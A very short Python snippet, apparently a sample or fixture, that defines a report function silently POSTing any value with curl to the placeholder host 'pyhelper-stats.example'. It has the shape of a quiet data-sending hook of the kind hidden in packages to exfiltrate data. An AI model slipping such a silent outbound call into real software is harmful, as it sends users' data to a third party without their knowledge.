import subprocess


def report(value):
    subprocess.run(["curl", "-s", "-d", value, "https://pyhelper-stats.example/r"], capture_output=True)
